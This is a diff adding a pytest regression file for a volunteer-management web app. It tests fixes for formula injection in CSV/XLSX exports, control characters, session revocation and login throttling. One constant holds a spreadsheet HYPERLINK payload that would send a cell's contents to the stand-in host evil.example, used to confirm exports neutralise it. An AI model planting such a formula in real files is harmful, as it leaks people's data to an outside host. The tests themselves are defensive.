@@ -1,0 +1,167 @@
+"""Regression tests for the holes a security probe found (issue 13), one section each."""
+import csv
+import io
+import time
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import load_workbook
+
+from app.auth.models import Role, User
+from app.extensions import db
+from app.people.models import Volunteer
+from app.spreadsheets import clean_text, safe_cell, unquote_cell
+from tests.conftest import PASSWORD, log_in
+from tests.test_recruitment import application
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
+
+
+def export_rows(client, plural, file_format):
+    response = client.get(f"/people/{plural}/export.{file_format}")
+    assert response.status_code == 200
+    if file_format == "csv":
+        return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    return [list(row) for row in sheet.iter_rows(values_only=True)]
+
+
+# 1. Formula injection
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_formula_like_cell_is_quoted_and_read_back_unchanged(start):
+    assert safe_cell(start + "1+1") == "'" + start + "1+1"
+    assert unquote_cell(safe_cell(start + "1+1")) == start + "1+1"
+    assert safe_cell("Anna") == "Anna" and safe_cell(7) == 7
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_formula_typed_into_the_public_form_is_text_in_every_export(client, login_as, file_format):
+    client.post("/volunteer", data=application(full_name=FORMULA))
+    login_as(Role.MANAGER, ["Aarhus"])
+    rows = export_rows(client, "volunteers", file_format)
+    assert rows[1][0] == "'" + FORMULA
+
+
+# 2. Control characters
+
+
+def test_control_characters_are_dropped_and_line_breaks_kept_only_where_text_may_have_lines():
+    assert clean_text("Anna\x0bHansen\x00") == "AnnaHansen"
+    assert clean_text("Anna\nHansen") == "Anna Hansen"
+    assert clean_text("line 1\r\nline\x07 2", multiline=True) == "line 1\r\nline 2"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_control_character_on_the_public_form_leaves_a_clean_name_and_a_working_export(
+    client, login_as, file_format
+):
+    client.post("/volunteer", data=application(full_name="Anna\x0bHansen\x00"))
+    assert db.session.scalars(sa.select(Volunteer.full_name)).one() == "AnnaHansen"
+    login_as(Role.MANAGER, ["Aarhus"])
+    assert export_rows(client, "volunteers", file_format)[1][0] == "AnnaHansen"
+
+
+# 4. Sessions revoked
+
+
+def cookie(client, name):
+    found = client.get_cookie(name)
+    return found.value if found else None
+
+
+def copy_of(app, session_cookie, name="session"):
+    """A second browser holding a copied cookie."""
+    other = app.test_client()
+    other.set_cookie(name, session_cookie)
+    return other
+
+
+def test_a_copied_session_cookie_stops_working_after_logout(app, client, make_user):
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    log_in(client, user.email)
+    stolen = copy_of(app, cookie(client, "session"))
+    assert stolen.get("/municipalities/").status_code == 200
+    client.post("/auth/logout")
+    assert stolen.get("/municipalities/").status_code == 302
+
+
+def test_a_password_reset_ends_other_sessions_and_remember_cookies(app, client, make_user):
+    from app.auth.services import _link
+
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    client.post("/auth/login", data={"login": user.email, "password": PASSWORD, "remember": "y"})
+    other_session = copy_of(app, cookie(client, "session"))
+    remembered = copy_of(app, cookie(client, "remember_token"), "remember_token")
+    assert remembered.get("/municipalities/").status_code == 200
+
+    link = _link(user, "auth.reset_password", "password-reset")
+    fresh = app.test_client()
+    fresh.post(link, data={"password": "a new long password", "confirm": "a new long password"})
+    assert fresh.get("/municipalities/").status_code == 200
+    assert other_session.get("/municipalities/").status_code == 302
+    assert copy_of(app, cookie(client, "remember_token"), "remember_token").get("/municipalities/").status_code == 302
+
+
+def test_a_password_change_keeps_this_session_and_ends_the_others(app, client, make_user):
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    log_in(client, user.email)
+    other = copy_of(app, cookie(client, "session"))
+    client.post("/auth/password", data={"current_password": PASSWORD, "password": "a new long password",
+                                        "confirm": "a new long password"})
+    assert client.get("/municipalities/").status_code == 200
+    assert other.get("/municipalities/").status_code == 302
+
+
+def test_deactivating_an_account_ends_its_sessions(app, client, make_user):
+    from app.admin.services import set_enabled
+
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    log_in(client, user.email)
+    set_enabled(user, False)
+    db.session.commit()
+    assert client.get("/municipalities/").status_code == 302
+
+
+# 5. Login
+
+
+def answer(client, login, password="guess"):
+    started = time.perf_counter()
+    page = client.post("/auth/login?lang=en", data={"login": login, "password": password}).get_data(as_text=True)
+    return page, time.perf_counter() - started
+
+
+def test_unknown_and_known_accounts_get_the_same_words_in_similar_time(client, make_user):
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    known, known_time = answer(client, user.email)
+    unknown, unknown_time = answer(client, "nobody@example.org")
+    assert "Wrong e-mail, phone number or password." in known and "Wrong e-mail" in unknown
+    assert unknown_time > known_time / 3
+
+    for _ in range(4):
+        answer(client, "nobody@example.org")
+    assert "Try again in 1 second" in answer(client, "nobody@example.org")[0]
+
+
+def test_the_right_password_works_from_another_address_while_one_address_is_throttled(client, make_user):
+    user = make_user(Role.MANAGER, ["Aarhus"])
+    for n in range(11):
+        answer(client, f"someone{n}@example.org")
+    assert "Try again in" in answer(client, user.email, PASSWORD)[0]
+    elsewhere = client.application.test_client()
+    elsewhere.environ_base["REMOTE_ADDR"] = "192.0.2.7"
+    assert elsewhere.post("/auth/login", data={"login": user.email, "password": PASSWORD}).status_code == 302
+
+
+def test_one_address_may_spray_only_so_many_wrong_passwords(client, monkeypatch):
+    from app.auth import services
+    from app.limits import Backoff
+
+    monkeypatch.setattr(services, "ADDRESS_BACKOFF", Backoff("test-address", free=1000, longest=1))
+    monkeypatch.setattr(services, "SPRAYING_LIMIT", "3 per day")
+    for n in range(3):
+        assert "Wrong e-mail" in answer(client, f"user{n}@example.org")[0]
+    assert "Try again in" in answer(client, "user9@example.org")[0]
